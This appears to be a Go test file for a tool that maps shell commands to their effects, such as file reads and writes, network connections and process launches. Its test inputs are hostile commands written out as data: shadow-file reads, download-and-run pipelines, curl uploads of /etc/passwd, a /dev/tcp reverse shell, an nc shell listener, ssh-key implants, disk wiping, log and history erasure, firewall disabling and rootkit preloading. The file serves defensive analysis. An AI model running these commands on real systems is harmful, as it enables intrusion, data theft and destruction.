package program

import (
	"os"
	"strings"
	"testing"
)

// TestGolden holds the golden lines of the contract. What it leaves out of an effect (a port that is the scheme's, where a connection goes) stands here as the
// contract's rules give it.
func TestGolden(t *testing.T) {
	checkEffects(t, "", []effectTest{
		{"cd /etc; cat shadow", "cat: reads /etc/shadow"},
		{"cat < /etc/shadow | base64 -w0", "cat: reads /etc/shadow"},
		{"(cd /tmp; rm a); rm b", "rm: removes /tmp/a | rm: removes ./b"},
		{"wget -qO- http://192.0.2.1/x | sh", "wget: fetches http://192.0.2.1/x to=-, connects 192.0.2.1:80 | sh: runs -"},
		{"cd /tmp && wget http://h.test/a/b.sh?v=1", "wget: fetches http://h.test/a/b.sh?v=1 to=/tmp/b.sh?v=1, writes /tmp/b.sh?v=1 create, connects h.test:80"},
		{"curl -sSLo /tmp/.x http://192.0.2.1/x; chmod +x /tmp/.x; /tmp/.x",
			"curl: fetches http://192.0.2.1/x to=/tmp/.x, writes /tmp/.x create, connects 192.0.2.1:80 | chmod: mode /tmp/.x executable | .x: runs /tmp/.x"},
		{"curl -A 'x -d y' http://192.0.2.1/", "curl: fetches http://192.0.2.1/ to=-, connects 192.0.2.1:80"},
		{"curl -F f=@/etc/passwd https://h.test/up", "curl: reads /etc/passwd, sends https://h.test/up from=/etc/passwd, connects h.test:443"},
		{"echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", "echo: writes ~/.ssh/authorized_keys append"},
		{"tee -a /root/.ssh/authorized_keys < k", "tee: reads ./k, writes ~/.ssh/authorized_keys append"},
		{"sed -i s/a/b/ /etc/ssh/sshd_config", "sed: reads /etc/ssh/sshd_config, writes /etc/ssh/sshd_config edit"},
		{"cat /dev/null > /var/log/wtmp", "cat: writes /var/log/wtmp empty"},
		{"ln -sf /dev/null ~/.bash_history", "ln: writes ~/.bash_history empty"},
		{"dd if=/dev/zero of=/dev/sda bs=1M", "dd: reads /dev/zero, writes /dev/sda create"},
		{"tar czf /tmp/l.tgz /etc /home", "tar: reads /etc, reads /home, archives /tmp/l.tgz, writes /tmp/l.tgz create"},
		{"find / -name 'x -perm -4000'", "find: searches / for=x -perm -4000"},
		{"find /tmp -name '*.sh' -delete", "find: searches /tmp for=*.sh, removes /tmp/**/*.sh"},
		{"cp a b /tmp", "cp: reads ./a, reads ./b, writes /tmp/a create, writes /tmp/b create"},
		{`cp a ""; mv -t "" b`, ""},
		{`cd ""; wget -P "" http://192.0.2.1/x`, "wget: fetches http://192.0.2.1/x to=./x, writes ./x create, connects 192.0.2.1:80"},
		{"vi /etc/shadow", "vi: writes /etc/shadow edit"},
		{"ls -la", ""},
		{"tar xzf a.tgz -C /d", "tar: reads ./a.tgz, writes /d create"},
		{"cat f | nc 192.0.2.1 1; nc 192.0.2.1 1 > g",
			"cat: reads ./f | nc: connects 192.0.2.1:1, sends 192.0.2.1:1 from=- port=1 | nc: connects 192.0.2.1:1, fetches 192.0.2.1:1 to=./g port=1, writes ./g create"},
		{"ssh root@192.0.2.1 'cat /etc/shadow'", "ssh: connects 192.0.2.1:22"},
		{"passwd", "passwd: account - password"},
		{"/etc/init.d/x stop", "x: runs /etc/init.d/x, service x stop"},
		{"pkill -9 -f xmrig; killall kinsing", "pkill: kills xmrig | killall: kills kinsing"},
		{"ps aux | grep kdevtmpfsi | grep -v grep | awk '{print $2}' | xargs kill -9", "kill: kills kdevtmpfsi"},
		{"systemctl stop firewalld && systemctl disable --now ufw", "systemctl: service firewalld stop | systemctl: service ufw disable, service ufw stop"},
		{"echo 'root:x' | chpasswd", "chpasswd: account root password"},
		{"useradd -m -s /bin/bash -G sudo bob", "useradd: account bob add group=sudo"},
		{"(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab: schedules * * * * * /tmp/x"},
		{"scp -P 2222 root@192.0.2.1:/tmp/k.tgz .", "scp: fetches 192.0.2.1:/tmp/k.tgz to=./k.tgz port=2222, writes ./k.tgz create, connects 192.0.2.1:2222"},
		{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
			"bash: connects 192.0.2.1:4444, sends 192.0.2.1:4444 port=4444, fetches 192.0.2.1:4444 port=4444"},
		{"nc -lvp 4444 -e /bin/sh", "nc: listens 4444 port=4444, runs /bin/sh"},
		{"export HISTFILE=/dev/null; unset HISTSIZE", "export: sets HISTFILE =/dev/null | unset: sets HISTSIZE unset"},
		{"LD_PRELOAD=/tmp/x.so ls", "ls: sets LD_PRELOAD =/tmp/x.so"},
		{"python3 -c 'print(1)' /etc/passwd", ""},
		{`echo "cat /etc/shadow" > notes.txt`, "echo: writes ./notes.txt create"},
		{"insmod /tmp/rk.ko", "insmod: module /tmp/rk.ko load, reads /tmp/rk.ko"},
		{"chattr -ia /etc/ld.so.preload; echo /tmp/x.so > /etc/ld.so.preload", "chattr: mode /etc/ld.so.preload mutable | echo: writes /etc/ld.so.preload create"},
	})
}

// TestEffects holds the lines of testdata/effects.txt, each with what it does on the next line.
func TestEffects(t *testing.T) {
	text, err := os.ReadFile("testdata/effects.txt")
	if err != nil {
		t.Fatal(err)
	}
	var tests []effectTest
	for line := range strings.Lines(string(text)) {
		line = strings.TrimSuffix(line, "\n")
		switch want, indented := strings.CutPrefix(line, "\t"); {
		case strings.HasPrefix(line, "#"):
		case indented:
			tests[len(tests)-1].want = want
		default:
			tests = append(tests, effectTest{line: line})
		}
	}
	if len(tests) < 400 {
		t.Errorf("%d lines in testdata/effects.txt, want the 400 that it held", len(tests))
	}
	checkEffects(t, "", tests)
}
